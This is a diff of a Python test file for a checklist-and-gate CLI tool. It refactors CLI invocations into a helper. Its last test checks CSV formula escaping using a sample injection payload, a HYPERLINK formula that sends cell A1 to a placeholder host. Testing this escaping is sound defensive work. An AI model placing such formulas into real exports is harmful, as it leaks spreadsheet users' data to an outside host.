@@ -141,8 +141,8 @@ def test_accepted_risk_counts_as_resolved_and_in_progress_does_not() -> None:
 
 
 def test_single_stage_markdown_does_not_call_its_readiness_the_lowest_stage(valid_catalog: Path) -> None:
-    one = CliRunner().invoke(main, ["checklist", "--stage", "data-management", "--state", str(STATES / "team.json")])
-    every = CliRunner().invoke(main, ["checklist", "--state", str(STATES / "team.json")])
+    one = cli("checklist", "--stage", "data-management", "--state", STATES / "team.json")
+    every = cli("checklist", "--state", STATES / "team.json")
     assert "Readiness: **67%**. Readiness = " in one.stdout and "lowest" not in one.stdout
     assert "Readiness: **0%**, the lowest stage's." in every.stdout
 
@@ -163,9 +163,7 @@ def test_single_stage_markdown_does_not_call_its_readiness_the_lowest_stage(vali
 ])
 def test_gate_passes_and_fails_listing_the_open_items(valid_catalog: Path, args: list[str], code: int,
                                                       expected: list[str]) -> None:
-    result = CliRunner().invoke(main, ["gate", "--state", str(STATES / "team.json"), *args])
-    assert result.exception is None or isinstance(result.exception, SystemExit)
-    assert result.exit_code == code
+    result = cli("gate", "--state", STATES / "team.json", *args, code=code)
     assert result.stdout.splitlines() == expected
 
 
@@ -176,25 +174,22 @@ def test_gate_passes_when_every_applicable_item_is_resolved(valid_catalog: Path,
         {"id": "data-discovery-catalogue", "status": "accepted-risk", "reason": "one source"},
         {"id": "data-profiling-report", "status": "na", "reason": "no training data of our own"},
         {"id": "feedback-loops-holdout", "status": "na", "reason": "batch scoring only"}]}))
-    result = CliRunner().invoke(main, ["gate", "--state", str(state)])
-    assert result.exit_code == 0, result.output
+    result = cli("gate", "--state", state)
     assert "model-deployment: Model deployment: n/a (0/0 resolved) — ready" in result.stdout, "nothing applies"
 
 
 def test_gate_refuses_bad_input_with_exit_1(valid_catalog: Path) -> None:
-    assert CliRunner().invoke(main, ["gate", "--state", str(STATES / "malformed.json")]).exit_code == 1
-    unknown = CliRunner().invoke(main, ["gate", "--state", str(STATES / "team.json"), "--stage", "deploy"])
-    assert unknown.exit_code == 1 and "unknown stage 'deploy'" in unknown.stderr
-    assert CliRunner().invoke(main, ["gate", "--state", str(STATES / "team.json"),
-                                     "--min-readiness", "1.5"]).exit_code == 2  # click: usage error
+    assert "malformed.json:" in cli("gate", "--state", STATES / "malformed.json", code=1).stderr
+    unknown = cli("gate", "--state", STATES / "team.json", "--stage", "deploy", code=1)
+    assert "unknown stage 'deploy'" in unknown.stderr
+    cli("gate", "--state", STATES / "team.json", "--min-readiness", "1.5", code=2)  # click: usage error
 
 
 def test_plan_markdown_lists_challenges_in_rank_order_without_repeating_stage_headings(valid_catalog: Path,
                                                                                         tmp_path: Path) -> None:
     profile = tmp_path / "p.yaml"
     profile.write_text("name: Fraud model\nindustry: healthcare\ntraits: [regulated]\n")
-    result = CliRunner().invoke(main, ["plan", "--profile", str(profile), "--format", "md"])
-    assert result.exit_code == 0, result.output
+    result = cli("plan", "--profile", profile, "--format", "md")
     assert re.findall(r"^## .*", result.stdout, re.MULTILINE) == ["## Challenges, most likely to matter first"]
     ranked = re.findall(r"^### (\d+)\. \[(.+?)\]", result.stdout, re.MULTILINE)
     assert [n for n, _ in ranked] == [str(i) for i in range(1, len(ranked) + 1)] and len(ranked) == 3
@@ -214,13 +209,11 @@ def test_every_csv_the_project_writes_starts_no_formula(valid_catalog: Path, tmp
     profile = tmp_path / "p.yaml"
     profile.write_text("industry: healthcare\n")
     outputs = {
-        "checklist": CliRunner().invoke(main, ["checklist", "--format", "csv", "--state", str(STATES / "team.json")]),
-        "plan": CliRunner().invoke(main, ["plan", "--profile", str(profile), "--format", "csv",
-                                          "--state", str(STATES / "team.json")]),
-        "export": CliRunner().invoke(main, ["export", "--format", "csv"]),
+        "checklist": cli("checklist", "--format", "csv", "--state", STATES / "team.json"),
+        "plan": cli("plan", "--profile", profile, "--format", "csv", "--state", STATES / "team.json"),
+        "export": cli("export", "--format", "csv"),
     }
     for name, result in outputs.items():
-        assert result.exit_code == 0, (name, result.output)
         bad = [c for c in _cells(result.stdout) if c.startswith(FORMULAS)]
         assert bad == [], name
     assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"go\")" in _cells(outputs["checklist"].stdout)
